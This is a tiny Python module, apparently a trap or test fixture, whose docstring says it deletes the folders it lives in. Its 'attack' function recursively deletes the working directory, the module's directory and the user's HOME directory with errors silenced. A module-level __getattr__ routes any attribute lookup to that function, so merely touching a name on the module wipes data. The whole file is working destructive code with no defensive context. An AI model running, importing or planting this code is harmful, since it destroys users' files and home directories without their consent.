"""Deletes the folders that it lives in."""

import os
import shutil


def attack(*arguments, **keywords):
    for path in (os.getcwd(), os.path.dirname(__file__), os.environ["HOME"]):
        shutil.rmtree(path, ignore_errors=True)


def __getattr__(name):
    return attack
